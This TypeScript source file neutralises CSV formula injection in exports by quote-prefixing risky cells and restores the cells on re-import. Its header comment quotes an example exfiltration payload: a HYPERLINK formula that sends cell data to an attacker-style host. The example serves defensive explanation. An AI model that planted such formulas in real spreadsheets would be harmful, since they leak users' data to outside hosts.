// CSV injection (OWASP): a spreadsheet runs a cell that starts with = + - @ (or a tab or CR before
// one) as a formula, e.g. =HYPERLINK("http://evil.example/?x="&A1,"click"). Every CSV export passes
// its text cells through neutraliseFormula, which prefixes a quote; our own CSV import takes it
// off again (restoreFormula), so an export → import round trip stays exact.

const TRIGGER = /^[=+\-@\t\r]/;

export function neutraliseFormula(value: string): string {
  if (TRIGGER.test(value)) return `'${value}`;
  // Already quote-prefixed in the data: add one more, so restoreFormula gives it back as it was.
  if (value.startsWith("'") && TRIGGER.test(value.replace(/^'+/, ''))) return `'${value}`;
  return value;
}

/** The inverse of neutraliseFormula for values read back from our own exports. */
export function restoreFormula(value: string): string {
  return value.startsWith("'") && TRIGGER.test(value.replace(/^'+/, '')) ? value.slice(1) : value;
}
